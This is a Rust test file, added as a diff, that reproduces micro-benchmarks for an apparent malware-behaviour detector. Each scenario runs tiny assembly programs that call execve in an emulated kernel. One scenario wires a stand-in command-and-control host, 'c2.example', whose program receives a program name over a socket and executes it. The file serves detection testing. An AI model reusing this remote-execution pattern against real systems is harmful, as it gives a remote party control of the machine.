@@ -1,0 +1,179 @@
+//! Table 4 — execution-flow micro-benchmarks.
+//!
+//! Four programs calling `execve` with the program name originating from
+//! different sources: user input (benign), hardcoded (Low), a socket
+//! (High), and hardcoded-but-rarely-executed (Medium).
+
+use emukernel::{Endpoint, Peer};
+use hth_core::Severity;
+
+use crate::scenario::{Expectation, Group, Scenario, StartSpec};
+
+/// The four Table 4 scenarios.
+pub fn scenarios() -> Vec<Scenario> {
+    vec![user_input(), hardcode(), remote(), infrequent()]
+}
+
+fn user_input() -> Scenario {
+    Scenario {
+        id: "execve_user_input",
+        group: Group::ExecFlow,
+        description: "execve of a program named on the command line",
+        paper_note: "correctly classified as not malicious (no warning)",
+        expected: Expectation::Silent,
+        setup: Box::new(|session| {
+            session.kernel.register_binary(
+                "/bench/execve_user",
+                r"
+                _start:
+                    mov ebp, esp
+                    mov ebx, [ebp+8]    ; argv[1]
+                    mov eax, 11
+                    int 0x80
+                    hlt
+                ",
+                &[],
+            );
+            StartSpec::plain("/bench/execve_user").arg("/bin/true")
+        }),
+    }
+}
+
+fn hardcode() -> Scenario {
+    Scenario {
+        id: "execve_hardcode",
+        group: Group::ExecFlow,
+        description: "execve of a program name hardcoded in the binary",
+        paper_note: "warned (Low severity)",
+        expected: Expectation::Warn(Severity::Low),
+        setup: Box::new(|session| {
+            session.kernel.register_binary(
+                "/bench/execve_hardcode",
+                r#"
+                _start:
+                    mov eax, 11
+                    mov ebx, prog
+                    int 0x80
+                    hlt
+                .data
+                prog: .asciz "/bin/ls"
+                "#,
+                &[],
+            );
+            StartSpec::plain("/bench/execve_hardcode")
+        }),
+    }
+}
+
+fn remote() -> Scenario {
+    Scenario {
+        id: "execve_remote",
+        group: Group::ExecFlow,
+        description: "execve of a program name received over a socket",
+        paper_note: "warned (High severity)",
+        expected: Expectation::Warn(Severity::High),
+        setup: Box::new(|session| {
+            session.kernel.net.add_host("c2.example", 0x0a00_0001);
+            session.kernel.net.add_peer(
+                Endpoint { ip: 0x0a00_0001, port: 9999 },
+                Peer { on_connect: vec![b"/bin/ls\0".to_vec()], ..Peer::default() },
+            );
+            session.kernel.register_binary(
+                "/bench/execve_remote",
+                r"
+                .equ SCRATCH, 0x09000000
+                _start:
+                    mov eax, 102        ; socket()
+                    mov ebx, 1
+                    mov ecx, sockargs
+                    int 0x80
+                    mov esi, eax
+                    mov [connargs], esi
+                    mov eax, 102        ; connect()
+                    mov ebx, 3
+                    mov ecx, connargs
+                    int 0x80
+                    mov [recvargs], esi
+                    mov eax, 102        ; recv() the program name
+                    mov ebx, 10
+                    mov ecx, recvargs
+                    int 0x80
+                    mov eax, 11         ; execve(name from socket)
+                    mov ebx, SCRATCH
+                    int 0x80
+                    hlt
+                .data
+                sockargs: .long 2, 1, 0
+                caddr:    .word 2
+                cport:    .word 9999
+                cip:      .long 0x0a000001
+                connargs: .long 0, caddr, 8
+                recvargs: .long 0, 0x09000000, 64, 0
+                ",
+                &[],
+            );
+            StartSpec::plain("/bench/execve_remote")
+        }),
+    }
+}
+
+fn infrequent() -> Scenario {
+    Scenario {
+        id: "execve_infrequent",
+        group: Group::ExecFlow,
+        description: "hardcoded execve executed rarely, late in the run",
+        paper_note: "warned (Medium severity: hardcoded + rare + old process)",
+        expected: Expectation::Warn(Severity::Medium),
+        setup: Box::new(|session| {
+            session.kernel.register_binary(
+                "/bench/execve_infrequent",
+                r#"
+                _start:
+                    mov eax, 162        ; nanosleep: simulate a long-lived
+                    mov ebx, 300        ; process (> LONG_TIME ticks)
+                    int 0x80
+                    mov eax, 11
+                    mov ebx, prog
+                    int 0x80
+                    hlt
+                .data
+                prog: .asciz "/bin/ls"
+                "#,
+                &[],
+            );
+            StartSpec::plain("/bench/execve_infrequent")
+        }),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn table4_all_correctly_classified() {
+        for scenario in scenarios() {
+            let result = scenario.run().unwrap();
+            assert!(
+                result.correct(),
+                "{}: expected {:?}, got {:?}\ntranscript:\n{}",
+                scenario.id,
+                scenario.expected,
+                result.max_severity(),
+                result.transcript,
+            );
+        }
+    }
+
+    #[test]
+    fn remote_execve_mentions_socket_origin() {
+        let result = remote().run().unwrap();
+        assert!(result.transcript.contains("originated from a socket"), "{}", result.transcript);
+    }
+
+    #[test]
+    fn infrequent_mentions_rarity() {
+        let result = infrequent().run().unwrap();
+        assert!(result.transcript.contains("rarely executed"), "{}", result.transcript);
+    }
+}
